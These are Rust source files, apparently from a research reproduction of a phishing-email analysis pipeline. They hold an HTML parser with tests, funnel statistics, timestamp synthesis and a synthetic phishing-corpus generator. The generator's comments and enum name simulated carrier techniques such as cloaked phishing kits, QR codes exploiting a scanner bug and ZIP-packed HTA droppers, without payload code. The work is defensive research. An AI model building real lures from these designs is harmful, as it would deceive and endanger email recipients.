        fn peek_close_tag(&self) -> Option<String> {
            let rest = self.rest().strip_prefix("</")?;
            let end = rest.find('>')?;
            let name = rest[..end].trim().to_ascii_lowercase();
            if name.is_empty() || !name.bytes().next().unwrap().is_ascii_alphabetic() {
                None
            } else {
                Some(name)
            }
        }

        fn consume_close_tag(&mut self) {
            if let Some(end) = self.rest().find('>') {
                self.pos += end + 1;
            } else {
                self.pos = self.input.len();
            }
        }

        fn parse_element(&mut self, stop_tags: &[&str]) -> Node {
            self.pos += 1;
            let rest = self.rest();
            let name_len = rest
                .bytes()
                .position(|b| !(b.is_ascii_alphanumeric() || b == b'-'))
                .unwrap_or(rest.len());
            let tag = rest[..name_len].to_ascii_lowercase();
            self.pos += name_len;

            let (attrs, self_closed) = self.parse_attrs();

            if self_closed || VOID_ELEMENTS.contains(&tag.as_str()) {
                return Node::Element {
                    tag,
                    attrs,
                    children: Vec::new(),
                };
            }

            if RAW_TEXT_ELEMENTS.contains(&tag.as_str()) {
                let close = format!("</{tag}");
                let content_start = self.pos;
                let content_end = self
                    .rest()
                    .to_ascii_lowercase()
                    .find(&close)
                    .map(|i| content_start + i)
                    .unwrap_or(self.input.len());
                let content = self.input[content_start..content_end].to_string();
                self.pos = content_end;
                self.consume_close_tag();
                let children = if content.trim().is_empty() {
                    Vec::new()
                } else {
                    vec![Node::Text(content)]
                };
                return Node::Element {
                    tag,
                    attrs,
                    children,
                };
            }

            let mut inner_stops: Vec<&str> = stop_tags.to_vec();
            let tag_owned = tag.clone();
            inner_stops.push(&tag_owned);
            let children = self.parse_nodes(&inner_stops);
            if let Some(name) = self.peek_close_tag() {
                if name == tag {
                    self.consume_close_tag();
                }
            }
            Node::Element {
                tag,
                attrs,
                children,
            }
        }

        fn parse_attrs(&mut self) -> (BTreeMap<String, String>, bool) {
            let mut attrs = BTreeMap::new();
            loop {
                while self.rest().starts_with(|c: char| c.is_ascii_whitespace()) {
                    self.pos += 1;
                }
                if self.starts_with("/>") {
                    self.pos += 2;
                    return (attrs, true);
                }
                if self.starts_with(">") {
                    self.pos += 1;
                    return (attrs, false);
                }
                if self.pos >= self.input.len() {
                    return (attrs, false);
                }
                let rest = self.rest();
                let name_len = rest
                    .bytes()
                    .position(|b| b.is_ascii_whitespace() || b == b'=' || b == b'>' || b == b'/')
                    .unwrap_or(rest.len());
                if name_len == 0 {
                    self.pos += 1;
                    continue;
                }
                let name = rest[..name_len].to_ascii_lowercase();
                self.pos += name_len;
                while self.rest().starts_with(|c: char| c.is_ascii_whitespace()) {
                    self.pos += 1;
                }
                let value = if self.starts_with("=") {
                    self.pos += 1;
                    while self.rest().starts_with(|c: char| c.is_ascii_whitespace()) {
                        self.pos += 1;
                    }
                    let rest = self.rest();
                    if rest.starts_with('"') || rest.starts_with('\'') {
                        let quote = rest.as_bytes()[0] as char;
                        let inner = &rest[1..];
                        let end = inner.find(quote).unwrap_or(inner.len());
                        let v = inner[..end].to_string();
                        self.pos += 1 + end + 1.min(inner.len() - end);
                        v
                    } else {
                        let end = rest
                            .bytes()
                            .position(|b| b.is_ascii_whitespace() || b == b'>')
                            .unwrap_or(rest.len());
                        let v = rest[..end].to_string();
                        self.pos += end;
                        v
                    }
                } else {
                    String::new()
                };
                attrs.insert(name, decode_entities(&value).into_owned());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_nesting() {
        let nodes = parse_fragment("<div><p>hello</p></div>");
        assert_eq!(nodes.len(), 1);
        let (tag, _, children) = nodes[0].as_element().unwrap();
        assert_eq!(tag, "div");
        let (ptag, _, pchildren) = children[0].as_element().unwrap();
        assert_eq!(ptag, "p");
        assert_eq!(pchildren[0], Node::Text("hello".into()));
    }

    #[test]
    fn attributes_quoted_and_bare() {
        let nodes = parse_fragment(r#"<a href="https://x.example/p?a=1&amp;b=2" target=_blank data-x='q'>link</a>"#);
        let n = &nodes[0];
        assert_eq!(n.attr("href"), Some("https://x.example/p?a=1&b=2"));
        assert_eq!(n.attr("target"), Some("_blank"));
        assert_eq!(n.attr("data-x"), Some("q"));
    }

    #[test]
    fn void_elements_do_not_swallow_siblings() {
        let nodes = parse_fragment(r#"<img src="a.png"><p>after</p>"#);
        assert_eq!(nodes.len(), 2);
        assert_eq!(nodes[0].attr("src"), Some("a.png"));
    }

    #[test]
    fn script_content_is_raw_text() {
        let nodes =
            parse_fragment("<script>if (a < b) { document.write('<p>not markup</p>'); }</script>");
        let (tag, _, children) = nodes[0].as_element().unwrap();
        assert_eq!(tag, "script");
        assert!(children[0].text_content().contains("a < b"));
        assert!(children[0].text_content().contains("<p>not markup</p>"));
    }

    #[test]
    fn comments_and_doctype_skipped() {
        let nodes = parse_fragment("<!DOCTYPE html><!-- hidden --><b>x</b>");
        assert_eq!(nodes.len(), 1);
        assert_eq!(nodes[0].as_element().unwrap().0, "b");
    }

    #[test]
    fn unclosed_tags_close_at_eof() {
        let nodes = parse_fragment("<div><p>dangling");
        let (_, _, children) = nodes[0].as_element().unwrap();
        assert_eq!(children[0].as_element().unwrap().0, "p");
    }

    #[test]
    fn stray_close_tags_ignored() {
        let nodes = parse_fragment("</p><b>ok</b></div>");
        assert_eq!(nodes.len(), 1);
        assert_eq!(nodes[0].text_content(), "ok");
    }

    #[test]
    fn self_closing_syntax() {
        let nodes = parse_fragment("<meta charset=\"utf-8\"/><span>s</span>");
        assert_eq!(nodes.len(), 2);
    }

    #[test]
    fn entity_decoding_in_text() {
        let nodes = parse_fragment("<p>a &amp; b &lt;ok&gt;</p>");
        assert_eq!(nodes[0].text_content(), "a & b <ok>");
    }

    #[test]
    fn mismatched_close_recovers() {
        // <b> closed by </i>: browser-style recovery, no panic, content kept
        let nodes = parse_fragment("<div><b>bold</i> tail</div>");
        assert_eq!(nodes.len(), 1);
        assert!(nodes[0].text_content().contains("bold"));
        assert!(nodes[0].text_content().contains("tail"));
    }

    #[test]
    fn text_content_concatenates() {
        let nodes = parse_fragment("<div>a<span>b</span>c</div>");
        assert_eq!(nodes[0].text_content(), "abc");
    }

    #[test]
    fn style_is_raw_text() {
        let nodes = parse_fragment("<style>body > p { color: red; }</style>");
        assert!(nodes[0].text_content().contains("body > p"));
    }

    /// Tiny deterministic generator for the differential fuzz loop (runs
    /// without external crates).
    struct Lcg(u64);

    impl Lcg {
        fn next(&mut self) -> u64 {
            self.0 = self
                .0
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            self.0 >> 11
        }

        fn pick<T: Copy>(&mut self, items: &[T]) -> T {
            items[(self.next() as usize) % items.len()]
        }
    }

    #[test]
    fn lut_parser_agrees_with_reference_on_fixtures() {
        let fixtures = [
            "<div><p>hello</p></div>",
            "<DIV CLASS=a>x</div>",
            "<1b<p>weird</p>",
            "</scripty>",
            "<script>tail</scripty>more</script>after",
            "<SCRIPT>x</SCRIPT>",
            "<a href=\"u'h\" x='a\"b'>t</a>",
            "<a href='unterminated>t",
            "<p a = 1 b= '2' c =\"3\">t</p>",
            "<p //weird=1>t</p>",
            "<br/><br />",
            "<b>bold</i> tail",
            "<!-- unterminated",
            "<! dangling",
            "< p>not a tag</p>",
            "<p>\u{a0}&nbsp;</p>",
            "<p>a<",
            "<p a=1 a=2 A=3>dup</p>",
            "<style>b{}</style",
            "text only",
            "",
            "<p\u{e9}>non-ascii after name</p>",
        ];
        for input in fixtures {
            assert_eq!(
                parse_fragment(input),
                reference::parse_fragment(input),
                "input {input:?}"
            );
        }
    }

    #[test]
    fn lut_parser_agrees_with_reference_on_fuzzed_soup() {
        const ATOMS: &[&str] = &[
            "<div>", "</div>", "<p ", "<a href=", "\"u\"", "'v'", "bare", ">", "/>", "=",
            "</p>", "<script>", "</script>", "<style>", "</style>", "<!--", "-->", "<!",
            "<br>", "text", " ", "&amp;", "<", "</", "<img src=x>", "\t", "<B>", "</B>",
            "\u{e9}", "<sPaN a=1>", "</span >",
        ];
        let mut rng = Lcg(77);
        for _ in 0..600 {
            let n = (rng.next() % 16) as usize;
            let input: String = (0..n).map(|_| rng.pick(ATOMS)).collect();
            assert_eq!(
                parse_fragment(&input),
                reference::parse_fragment(&input),
                "input {input:?}"
            );
        }
    }

    #[test]
    fn token_stream_covers_basic_structure() {
        let tokens: Vec<Token<'_>> =
            tokenize(r#"<a href="http://x.example/">link</a><script>a<b</script>"#).collect();
        assert_eq!(
            tokens,
            vec![
                Token::Open("a"),
                Token::Attr {
                    name: "href",
                    value: Some("http://x.example/"),
                },
                Token::OpenEnd {
                    self_closing: false
                },
                Token::Text("link"),
                Token::Close("a"),
                Token::Open("script"),
                Token::OpenEnd {
                    self_closing: false
                },
                Token::RawText("a<b"),
                Token::Close("script"),
            ]
        );
    }

    #[test]
    fn token_stream_never_panics_on_soup() {
        const ATOMS: &[&str] = &[
            "<div>", "</div>", "<p ", "=", "'q", "\">", "<script>", "</script>", "<!--",
            "-->", "<!", "txt", "<", "</", "/>", " ", "<B a", "\u{e9}",
        ];
        let mut rng = Lcg(3);
        for _ in 0..400 {
            let n = (rng.next() % 14) as usize;
            let input: String = (0..n).map(|_| rng.pick(ATOMS)).collect();
            // bounded: the stream must terminate and touch every span
            let mut total = 0usize;
            for t in tokenize(&input).take(10_000) {
                total += match t {
                    Token::Text(s)
                    | Token::Open(s)
                    | Token::Close(s)
                    | Token::Comment(s)
                    | Token::Doctype(s)
                    | Token::RawText(s) => s.len(),
                    Token::Attr { name, value } => name.len() + value.map_or(0, str::len),
                    Token::OpenEnd { .. } => 0,
                };
            }
            assert!(total <= input.len() * 2, "input {input:?}");
        }
    }
}
