//! A practical HTML parser: tags with attributes, text nodes, raw-text
//! elements (`<script>`, `<style>`), comments, void elements, and the
//! tag-soup leniency real phishing pages demand.

use std::borrow::Cow;
use std::collections::BTreeMap;

/// A DOM node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Node {
    /// An element with attributes and children.
    Element {
        /// Lowercased tag name.
        tag: String,
        /// Lowercased attribute names → unquoted values.
        attrs: BTreeMap<String, String>,
        /// Child nodes in document order.
        children: Vec<Node>,
    },
    /// A text run.
    Text(String),
}

impl Node {
    /// Element accessor: `(tag, attrs, children)` or `None` for text.
    pub fn as_element(&self) -> Option<(&str, &BTreeMap<String, String>, &[Node])> {
        match self {
            Node::Element {
                tag,
                attrs,
                children,
            } => Some((tag, attrs, children)),
            Node::Text(_) => None,
        }
    }

    /// Attribute value, for elements.
    pub fn attr(&self, name: &str) -> Option<&str> {
        match self {
            Node::Element { attrs, .. } => attrs.get(name).map(String::as_str),
            Node::Text(_) => None,
        }
    }

    /// Concatenated descendant text.
    ///
    /// Borrows when no concatenation is needed (a text node, or an element
    /// with at most one text-bearing child) — the dominant DOM shape, so
    /// most calls allocate nothing.
    pub fn text_content(&self) -> Cow<'_, str> {
        match self {
            Node::Text(t) => Cow::Borrowed(t),
            Node::Element { children, .. } => match children.len() {
                0 => Cow::Borrowed(""),
                1 => children[0].text_content(),
                _ => {
                    let mut out = String::new();
                    for c in children {
                        out.push_str(&c.text_content());
                    }
                    Cow::Owned(out)
                }
            },
        }
    }
}

/// Elements that never have children.
const VOID_ELEMENTS: &[&str] = &[
    "img", "input", "br", "hr", "meta", "link", "area", "base", "col", "embed", "source",
    "track", "wbr",
];

/// Elements whose content is raw text until the matching close tag.
const RAW_TEXT_ELEMENTS: &[&str] = &["script", "style"];

/// Parse an HTML fragment into a node list. Never fails: unclosed tags are
/// closed at end of input, stray close tags are ignored — the leniency of a
/// real browser.
pub fn parse_fragment(input: &str) -> Vec<Node> {
    let mut parser = HtmlParser {
        input,
        pos: 0,
    };
    parser.parse_nodes(&[])
}

struct HtmlParser<'a> {
    input: &'a str,
    pos: usize,
}

impl<'a> HtmlParser<'a> {
    fn rest(&self) -> &'a str {
        &self.input[self.pos..]
    }

    fn starts_with(&self, s: &str) -> bool {
        self.rest().starts_with(s)
    }

    /// Parse sibling nodes until one of `stop_tags` closes (or input ends).
    fn parse_nodes(&mut self, stop_tags: &[&str]) -> Vec<Node> {
        let mut nodes = Vec::new();
        loop {
            if self.pos >= self.input.len() {
                return nodes;
            }
            // Close tag for an ancestor?
            if self.starts_with("</") {
                let save = self.pos;
                if let Some(name) = self.peek_close_tag() {
                    if stop_tags.contains(&name.as_str()) {
                        // leave for the caller to consume
                        self.pos = save;
                        return nodes;
                    }
                    // stray close tag: consume and ignore
                    self.consume_close_tag();
                    continue;
                }
                // "</" not followed by a name: treat as text
            }
            if self.starts_with("<!--") {
                if let Some(end) = self.rest().find("-->") {
                    self.pos += end + 3;
                } else {
                    self.pos = self.input.len();
                }
                continue;
            }
            if self.starts_with("<!") {
                // doctype or similar: skip to '>'
                match self.rest().find('>') {
                    Some(end) => self.pos += end + 1,
                    None => self.pos = self.input.len(),
                }
                continue;
            }
            if self.starts_with("<") && self.rest().len() > 1 {
                let after = self.rest().as_bytes()[1];
                if after.is_ascii_alphabetic() {
                    nodes.push(self.parse_element(stop_tags));
                    continue;
                }
            }
            // Text until next '<'
            let end = self.rest().find('<').map(|i| self.pos + i).unwrap_or(self.input.len());
            let text = &self.input[self.pos..end.max(self.pos + 1).min(self.input.len())];
            // (the max() handles a lone '<' at end of input)
            self.pos += text.len();
            if !text.trim().is_empty() {
                nodes.push(Node::Text(decode_entities(text).into_owned()));
            }
        }
    }

    fn peek_close_tag(&self) -> Option<String> {
        let rest = self.rest().strip_prefix("</")?;
        let end = rest.find('>')?;
        let name = rest[..end].trim().to_ascii_lowercase();
        if name.is_empty() || !name.bytes().next().unwrap().is_ascii_alphabetic() {
            None
        } else {
            Some(name)
        }
    }

    fn consume_close_tag(&mut self) {
        if let Some(end) = self.rest().find('>') {
            self.pos += end + 1;
        } else {
            self.pos = self.input.len();
        }
    }

    fn parse_element(&mut self, stop_tags: &[&str]) -> Node {
        // at '<' followed by a letter
        self.pos += 1;
        let rest = self.rest();
        let name_len = rest
            .bytes()
            .position(|b| !(b.is_ascii_alphanumeric() || b == b'-'))
            .unwrap_or(rest.len());
        let tag = rest[..name_len].to_ascii_lowercase();
        self.pos += name_len;

        let (attrs, self_closed) = self.parse_attrs();

        if self_closed || VOID_ELEMENTS.contains(&tag.as_str()) {
            return Node::Element {
                tag,
                attrs,
                children: Vec::new(),
            };
        }

        if RAW_TEXT_ELEMENTS.contains(&tag.as_str()) {
            let close = format!("</{tag}");
            let content_start = self.pos;
            let content_end = self.rest()
                .to_ascii_lowercase()
                .find(&close)
                .map(|i| content_start + i)
                .unwrap_or(self.input.len());
            let content = self.input[content_start..content_end].to_string();
            self.pos = content_end;
            self.consume_close_tag();
            let children = if content.trim().is_empty() {
                Vec::new()
            } else {
                vec![Node::Text(content)]
            };
            return Node::Element {
                tag,
                attrs,
                children,
            };
        }

        // Regular element: parse children until our close tag.
        let mut inner_stops: Vec<&str> = stop_tags.to_vec();
        let tag_owned = tag.clone();
        inner_stops.push(&tag_owned);
        let children = self.parse_nodes(&inner_stops);
        // consume our close tag if it is the one present
        if let Some(name) = self.peek_close_tag() {
            if name == tag {
                self.consume_close_tag();
            }
        }
        Node::Element {
            tag,
            attrs,
            children,
        }
    }

    /// Parse attributes up to and including the closing `>` (or `/>`).
    /// Returns `(attrs, self_closed)`.
    fn parse_attrs(&mut self) -> (BTreeMap<String, String>, bool) {
        let mut attrs = BTreeMap::new();
        loop {
            // skip whitespace
            while self.rest().starts_with(|c: char| c.is_ascii_whitespace()) {
                self.pos += 1;
            }
            if self.starts_with("/>") {
                self.pos += 2;
                return (attrs, true);
            }
            if self.starts_with(">") {
                self.pos += 1;
                return (attrs, false);
            }
            if self.pos >= self.input.len() {
                return (attrs, false);
            }
            // attribute name
            let rest = self.rest();
            let name_len = rest
                .bytes()
                .position(|b| {
                    b.is_ascii_whitespace() || b == b'=' || b == b'>' || b == b'/'
                })
                .unwrap_or(rest.len());
            if name_len == 0 {
                // stray character; skip it
                self.pos += 1;
                continue;
            }
            let name = rest[..name_len].to_ascii_lowercase();
            self.pos += name_len;
            // optional = value
            while self.rest().starts_with(|c: char| c.is_ascii_whitespace()) {
                self.pos += 1;
            }
            let value = if self.starts_with("=") {
                self.pos += 1;
                while self.rest().starts_with(|c: char| c.is_ascii_whitespace()) {
                    self.pos += 1;
                }
                let rest = self.rest();
                if rest.starts_with('"') || rest.starts_with('\'') {
                    let quote = rest.as_bytes()[0] as char;
                    let inner = &rest[1..];
                    let end = inner.find(quote).unwrap_or(inner.len());
                    let v = inner[..end].to_string();
                    self.pos += 1 + end + 1.min(inner.len() - end);
                    v
                } else {
                    let end = rest
                        .bytes()
                        .position(|b| b.is_ascii_whitespace() || b == b'>')
                        .unwrap_or(rest.len());
                    let v = rest[..end].to_string();
                    self.pos += end;
                    v
                }
            } else {
                String::new()
            };
            attrs.insert(name, decode_entities(&value).into_owned());
        }
    }
}

/// Decode the handful of entities that matter for URL and text extraction.
///
/// Borrows the input untouched when it contains no `&` — the overwhelmingly
/// common case for attribute values and text runs — so the parser's hot
/// path allocates only when a transformation actually happens.
pub fn decode_entities(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.replace("&amp;", "&")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&#39;", "'")
            .replace("&nbsp;", " "),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_nesting() {
        let nodes = parse_fragment("<div><p>hello</p></div>");
        assert_eq!(nodes.len(), 1);
        let (tag, _, children) = nodes[0].as_element().unwrap();
        assert_eq!(tag, "div");
        let (ptag, _, pchildren) = children[0].as_element().unwrap();
        assert_eq!(ptag, "p");
        assert_eq!(pchildren[0], Node::Text("hello".into()));
    }

    #[test]
    fn attributes_quoted_and_bare() {
        let nodes = parse_fragment(r#"<a href="https://x.example/p?a=1&amp;b=2" target=_blank data-x='q'>link</a>"#);
        let n = &nodes[0];
        assert_eq!(n.attr("href"), Some("https://x.example/p?a=1&b=2"));
        assert_eq!(n.attr("target"), Some("_blank"));
        assert_eq!(n.attr("data-x"), Some("q"));
    }

    #[test]
    fn void_elements_do_not_swallow_siblings() {
        let nodes = parse_fragment(r#"<img src="a.png"><p>after</p>"#);
        assert_eq!(nodes.len(), 2);
        assert_eq!(nodes[0].attr("src"), Some("a.png"));
    }

    #[test]
    fn script_content_is_raw_text() {
        let nodes =
            parse_fragment("<script>if (a < b) { document.write('<p>not markup</p>'); }</script>");
        let (tag, _, children) = nodes[0].as_element().unwrap();
        assert_eq!(tag, "script");
        assert!(children[0].text_content().contains("a < b"));
        assert!(children[0].text_content().contains("<p>not markup</p>"));
    }

    #[test]
    fn comments_and_doctype_skipped() {
        let nodes = parse_fragment("<!DOCTYPE html><!-- hidden --><b>x</b>");
        assert_eq!(nodes.len(), 1);
        assert_eq!(nodes[0].as_element().unwrap().0, "b");
    }

    #[test]
    fn unclosed_tags_close_at_eof() {
        let nodes = parse_fragment("<div><p>dangling");
        let (_, _, children) = nodes[0].as_element().unwrap();
        assert_eq!(children[0].as_element().unwrap().0, "p");
    }

    #[test]
    fn stray_close_tags_ignored() {
        let nodes = parse_fragment("</p><b>ok</b></div>");
        assert_eq!(nodes.len(), 1);
        assert_eq!(nodes[0].text_content(), "ok");
    }

    #[test]
    fn self_closing_syntax() {
        let nodes = parse_fragment("<meta charset=\"utf-8\"/><span>s</span>");
        assert_eq!(nodes.len(), 2);
    }

    #[test]
    fn entity_decoding_in_text() {
        let nodes = parse_fragment("<p>a &amp; b &lt;ok&gt;</p>");
        assert_eq!(nodes[0].text_content(), "a & b <ok>");
    }

    #[test]
    fn mismatched_close_recovers() {
        // <b> closed by </i>: browser-style recovery, no panic, content kept
        let nodes = parse_fragment("<div><b>bold</i> tail</div>");
        assert_eq!(nodes.len(), 1);
        assert!(nodes[0].text_content().contains("bold"));
        assert!(nodes[0].text_content().contains("tail"));
    }

    #[test]
    fn text_content_concatenates() {
        let nodes = parse_fragment("<div>a<span>b</span>c</div>");
        assert_eq!(nodes[0].text_content(), "abc");
    }

    #[test]
    fn style_is_raw_text() {
        let nodes = parse_fragment("<style>body > p { color: red; }</style>");
        assert!(nodes[0].text_content().contains("body > p"));
    }
}
