//! The §IV-A triage funnel: from 60 M inbound messages per month down to
//! the ~500 confirmed-malicious reports the experts tag.

use serde::{Deserialize, Serialize};

/// The corporate email funnel, per month, at the published rates.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct FunnelReport {
    /// Inbound messages across the five companies.
    pub inbound: u64,
    /// Filtered by the commercial security layers (17%).
    pub filtered: u64,
    /// Delivered to inboxes.
    pub delivered: u64,
    /// User-reported as suspicious (0.03% of delivered ⇒ ~14,000).
    pub reported: u64,
    /// Expert verdict: malicious (3.7% of reports).
    pub confirmed_malicious: u64,
    /// Expert verdict: spam (61.3%).
    pub confirmed_spam: u64,
    /// Expert verdict: legitimate (35.0%).
    pub confirmed_legitimate: u64,
}

impl FunnelReport {
    /// The published monthly funnel.
    pub fn paper_monthly() -> FunnelReport {
        FunnelReport::from_inbound(60_000_000)
    }

    /// Apply the published rates to an inbound volume.
    pub fn from_inbound(inbound: u64) -> FunnelReport {
        let filtered = (inbound as f64 * 0.17) as u64;
        let delivered = inbound - filtered;
        let reported = (delivered as f64 * 0.000_3).round() as u64;
        let confirmed_malicious = (reported as f64 * 0.037).round() as u64;
        let confirmed_spam = (reported as f64 * 0.613).round() as u64;
        let confirmed_legitimate = reported - confirmed_malicious - confirmed_spam;
        FunnelReport {
            inbound,
            filtered,
            delivered,
            reported,
            confirmed_malicious,
            confirmed_spam,
            confirmed_legitimate,
        }
    }

    /// Confirmed-malicious per working day (the paper: "25 per working day
    /// on average", ~20 working days per month).
    pub fn malicious_per_working_day(&self) -> f64 {
        self.confirmed_malicious as f64 / 20.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn monthly_funnel_matches_paper() {
        let f = FunnelReport::paper_monthly();
        assert_eq!(f.inbound, 60_000_000);
        assert_eq!(f.filtered, 10_200_000);
        assert_eq!(f.delivered, 49_800_000);
        // "about 14,000 are monthly reported" — 0.03% of delivered
        assert!((13_000..16_000).contains(&f.reported), "{}", f.reported);
        // "500 are reported and confirmed as malicious every month"
        assert!((450..620).contains(&f.confirmed_malicious), "{}", f.confirmed_malicious);
        // "25 per working day on average"
        assert!((22.0..31.0).contains(&f.malicious_per_working_day()));
    }

    #[test]
    fn verdict_shares_sum_to_reports() {
        let f = FunnelReport::paper_monthly();
        assert_eq!(
            f.confirmed_malicious + f.confirmed_spam + f.confirmed_legitimate,
            f.reported
        );
        let legit_share = f.confirmed_legitimate as f64 / f.reported as f64;
        assert!((legit_share - 0.35).abs() < 0.01, "{legit_share}");
    }

    #[test]
    fn funnel_scales_linearly() {
        let half = FunnelReport::from_inbound(30_000_000);
        let full = FunnelReport::paper_monthly();
        assert!((half.reported as f64 * 2.0 - full.reported as f64).abs() <= 2.0);
    }
}
