//! Delivery-timestamp synthesis: Figure 2's monthly series as actual
//! instants.

use crate::spec::CorpusSpec;
use cb_sim::{SimTime, SimDuration};
use rand::rngs::StdRng;
use rand::Rng;

/// `(year, month)` for each index of the 2024 window (Jan–Oct).
pub fn months_2024() -> [(i64, u32); 10] {
    [
        (2024, 1),
        (2024, 2),
        (2024, 3),
        (2024, 4),
        (2024, 5),
        (2024, 6),
        (2024, 7),
        (2024, 8),
        (2024, 9),
        (2024, 10),
    ]
}

/// Days in the given month (delegating to the sim calendar).
fn days_in_month(year: i64, month: u32) -> u32 {
    let start = SimTime::from_ymd(year, month, 1);
    let next = if month == 12 {
        SimTime::from_ymd(year + 1, 1, 1)
    } else {
        SimTime::from_ymd(year, month + 1, 1)
    };
    (next - start).as_days() as u32
}

/// Draw one delivery instant inside `(year, month)`: business days and
/// hours preferred (phishing rides the workday — the reported messages are
/// corporate mail).
pub fn delivery_instant(rng: &mut StdRng, year: i64, month: u32) -> SimTime {
    let dim = days_in_month(year, month);
    // retry a few times to prefer weekdays
    for _ in 0..4 {
        let day = rng.gen_range(1..=dim);
        let t = SimTime::from_ymd_hms(
            year,
            month,
            day,
            rng.gen_range(7..19),
            rng.gen_range(0..60),
            rng.gen_range(0..60),
        );
        // weekday check: 1970-01-01 was a Thursday (weekday 4 if Mon=0)
        let weekday = (t.as_unix().div_euclid(86_400) + 3).rem_euclid(7);
        if weekday < 5 {
            return t;
        }
    }
    SimTime::from_ymd_hms(year, month, 1.max(dim / 2), 10, 30, 0)
}

/// The scaled per-month message counts for the 2024 window.
pub fn scaled_monthly(spec: &CorpusSpec) -> [usize; 10] {
    let mut out = [0usize; 10];
    for (i, &n) in spec.monthly_2024.iter().enumerate() {
        out[i] = spec.scaled(n);
    }
    out
}

/// All delivery instants for the corpus, month by month (chronological
/// within the window, randomized within each month).
pub fn delivery_schedule(spec: &CorpusSpec, rng: &mut StdRng) -> Vec<SimTime> {
    let mut out = Vec::new();
    for ((year, month), &count) in months_2024().iter().zip(scaled_monthly(spec).iter()) {
        for _ in 0..count {
            out.push(delivery_instant(rng, *year, *month));
        }
    }
    out
}

/// End of the study window (used as the "now" for retrospective analysis).
pub fn study_end() -> SimTime {
    SimTime::from_ymd(2024, 11, 1)
}

/// Start of the study window.
pub fn study_start() -> SimTime {
    SimTime::from_ymd(2024, 1, 1)
}

/// A safety margin before the window for backdated registrations
/// (compromised domains can be years old).
pub fn world_epoch() -> SimTime {
    SimTime::from_ymd(2018, 1, 1) - SimDuration::ZERO
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_sim::SeedFork;

    #[test]
    fn instants_fall_inside_their_month() {
        let mut rng = SeedFork::new(1).rng("t");
        for (y, m) in months_2024() {
            for _ in 0..50 {
                let t = delivery_instant(&mut rng, y, m);
                let (ty, tm, _) = t.ymd();
                assert_eq!((ty, tm), (y, m));
            }
        }
    }

    #[test]
    fn instants_prefer_weekdays_and_work_hours() {
        let mut rng = SeedFork::new(2).rng("t");
        let mut weekend = 0;
        let mut total = 0;
        for _ in 0..400 {
            let t = delivery_instant(&mut rng, 2024, 5);
            let weekday = (t.as_unix().div_euclid(86_400) + 3).rem_euclid(7);
            if weekday >= 5 {
                weekend += 1;
            }
            let (h, _, _) = t.hms();
            assert!((7..19).contains(&h));
            total += 1;
        }
        assert!(weekend * 10 < total, "weekend fraction too high: {weekend}/{total}");
    }

    #[test]
    fn schedule_matches_scaled_counts() {
        let spec = CorpusSpec::paper().with_scale(0.1);
        let mut rng = SeedFork::new(3).rng("t");
        let schedule = delivery_schedule(&spec, &mut rng);
        let expected: usize = scaled_monthly(&spec).iter().sum();
        assert_eq!(schedule.len(), expected);
        // roughly 10% of 5181
        assert!((500..560).contains(&schedule.len()), "{}", schedule.len());
    }

    #[test]
    fn full_scale_schedule_is_5181() {
        let spec = CorpusSpec::paper();
        assert_eq!(scaled_monthly(&spec).iter().sum::<usize>(), 5181);
    }

    #[test]
    fn window_bounds() {
        assert!(study_start() < study_end());
        assert!(world_epoch() < study_start());
    }
}
