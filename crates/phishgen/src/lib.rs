#![warn(missing_docs)]

//! Corpus generator: synthesizes the paper's ten-month reported-email
//! dataset at its published parameters.
//!
//! The study's dataset is proprietary (user-reported emails from five real
//! companies), so the reproduction substitutes a **parameterized synthetic
//! corpus** (`DESIGN.md` §4): every count, proportion and distribution the
//! paper reports is a generator parameter ([`CorpusSpec`]), and the
//! generated world is *real* — domains get registered in the simulated
//! WHOIS with backdated timestamps, certificates appear in the CT log,
//! phishing kits are deployed as live site handlers with their cloaking
//! configured, QR codes are actual encoded symbols in image attachments,
//! and messages are wire-format MIME. CrawlerBox then analyzes the corpus
//! *blind*, and the analysis must re-derive the published numbers.
//!
//! # Example
//!
//! ```
//! use cb_phishgen::{CorpusSpec, Corpus};
//!
//! // A 5%-scale corpus for quick runs; scale 1.0 is the paper's size.
//! let spec = CorpusSpec::paper().with_scale(0.05);
//! let corpus = Corpus::generate(&spec, 42);
//! assert!(corpus.messages.len() > 200);
//! assert!(corpus.world.whois("login.amadora.example").is_some());
//! ```

pub mod campaigns;
pub mod corpus;
pub mod domains;
pub mod funnel;
pub mod messages;
pub mod spec;
pub mod timeline;

pub use corpus::{Corpus, GroundTruth, MessageClass, MessageStream, ReportedMessage};
pub use funnel::FunnelReport;
pub use spec::CorpusSpec;
