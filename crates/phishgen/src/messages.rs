//! Wire-format message synthesis: every carrier shape the parsing phase
//! must handle (§IV-B), built with the real substrates — actual QR symbols,
//! actual PDF-lite documents, actual ZIP archives, nested EMLs.

use cb_artifacts::{Bitmap, PdfDocument, Rgb, ZipArchive};
use cb_artifacts::pdf::PdfPage;
use cb_artifacts::qrimage;
use cb_email::MessageBuilder;
use cb_qr::{encode_bytes, EcLevel};
use cb_sim::SimTime;
use rand::rngs::StdRng;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// How a message carries its URL (or nothing).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Carrier {
    /// Plain-text/HTML body link.
    BodyLink,
    /// QR code image attachment.
    QrCode {
        /// Faulty payload exploiting the scanner bug (§V-C1).
        faulty: bool,
    },
    /// URL drawn into an image (OCR extraction path).
    ImageText,
    /// PDF attachment with a link annotation.
    PdfLink,
    /// PDF attachment with the URL only as page text (screenshot+OCR path).
    PdfText,
    /// Nested `message/rfc822` attachment carrying the link.
    NestedEml,
    /// HTML file attachment with a local JS redirect.
    HtmlAttachment,
    /// ZIP archive containing an HTA dropper.
    ZipHta,
    /// No web resource at all (fraud / BEC first contact).
    None,
}

/// The body-footer prefix announcing an OTP — the pipeline's gate solver
/// searches for this marker (case-insensitively).
pub const ACCESS_CODE_PREFIX: &str = "access code:";

/// Render `Date:` header text from a sim instant.
